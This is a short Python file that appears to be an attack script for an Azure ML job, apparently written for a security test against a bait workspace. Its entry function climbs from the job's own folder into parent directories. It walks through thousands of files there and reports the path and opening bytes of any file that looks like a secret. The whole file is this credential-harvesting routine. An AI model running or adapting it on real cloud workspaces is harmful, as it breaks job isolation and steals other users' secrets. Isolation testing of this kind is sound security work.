"""Goes up from the folder of its job, and looks through everything that lies there for a secret."""

import os

from attack import BAIT, attack, every, is_secret, job_folder, told


def look_below(top):
    return every(look_at, files_below(top))


def files_below(top):
    found = []
    for folder, _, names in os.walk(top):
        found.extend(os.path.join(folder, name) for name in names if name != "bait.json" and "packages" not in folder)
        if len(found) > 20000:
            break
    return [path for path in found if os.path.isfile(path)]


def look_at(path):
    with open(path, "rb") as stream:
        content = stream.read(65536)
    return told(path, content[:300]) if is_secret(content) else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    up = os.path.dirname(job_folder())
    tops = []
    while up.startswith(BAIT["workspace"]):
        tops.append(up)
        up = os.path.dirname(up)
    return every(look_below, tops)
